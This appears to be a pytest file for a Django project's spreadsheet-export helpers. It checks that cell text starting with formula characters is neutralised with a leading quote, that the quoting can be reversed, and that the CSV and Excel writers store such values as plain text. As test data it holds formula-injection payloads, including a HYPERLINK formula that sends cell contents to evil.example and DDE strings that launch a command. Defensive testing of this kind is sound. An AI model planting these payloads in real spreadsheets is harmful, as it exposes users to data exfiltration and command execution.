"""The formula-injection rule: dangerous texts quoted, everything else untouched, reversible."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest
from django.utils.functional import lazy

from ctip.core.spreadsheets import (
    CsvDictWriter,
    append_row,
    csv_writer,
    safe_cell,
    unquote_cell,
)

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    "text",
    [
        PAYLOAD,
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=",
        "-",
        "+855 12 345 678",
    ],
)
def test_every_dangerous_first_character_is_quoted(text):
    assert safe_cell(text) == "'" + text
    assert unquote_cell(safe_cell(text)) == text


@pytest.mark.parametrize(
    "text", ["Sokha", "", "សុខា", " =not first", "a=b", "'quoted already", "x-1", "-3", "+5", "-1.5"]
)
def test_harmless_texts_and_plain_numbers_written_as_text_are_unchanged(text):
    assert safe_cell(text) == text
    assert unquote_cell(text) == text


@pytest.mark.parametrize("value", [-5, 0, 12, -1.5, Decimal("-2.50"), True, None, date(2025, 1, 5)])
def test_numbers_dates_and_empty_cells_are_left_as_they_are(value):
    assert safe_cell(value) is value


def test_texts_that_already_look_quoted_get_one_quote_more_so_the_rule_is_reversible():
    for text in ["'=1+1", "''-x", "'@a", "'\t"]:
        assert safe_cell(text) == "'" + text
        assert unquote_cell(safe_cell(text)) == text
    assert unquote_cell("'plain") == "'plain"  # not something safe_cell wrote


def test_lazy_translations_and_other_objects_are_judged_as_the_text_written():
    # A lazy string like gettext_lazy's (built with lazy() so it never reaches the catalogue).
    assert safe_cell(lazy(str, str)("=1+1")) == "'=1+1"

    class Named:
        def __str__(self):
            return "@evil"

    assert safe_cell(Named()) == "'@evil"
    assert safe_cell(datetime(2025, 1, 5, 10, 0, tzinfo=UTC)) == datetime(
        2025, 1, 5, 10, 0, tzinfo=UTC
    )


def test_the_csv_writers_quote_every_cell_header_included():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow([PAYLOAD, -3, "ok"])
    writer.writerows([["@x", 4]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'" + PAYLOAD, "-3", "ok"],
        ["'@x", "4"],
    ]

    out = io.StringIO()
    writer = CsvDictWriter(out, fieldnames=["=name", "count"])
    writer.writeheader()
    writer.writerow({"=name": "-cmd", "count": -7})
    writer.writerows([{"=name": "Dara", "count": 1}])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'=name", "count"],
        ["'-cmd", "-7"],
        ["Dara", "1"],
    ]


def test_an_openpyxl_row_holds_text_and_numbers_never_a_formula():
    book = openpyxl.Workbook()
    sheet = book.active
    append_row(sheet, [PAYLOAD, -3, 2.5, "Sokha"])
    out = io.BytesIO()
    book.save(out)
    cells = next(openpyxl.load_workbook(out).active.iter_rows())
    assert [c.value for c in cells] == ["'" + PAYLOAD, -3, 2.5, "Sokha"]
    assert [c.data_type for c in cells] == ["s", "n", "n", "s"]
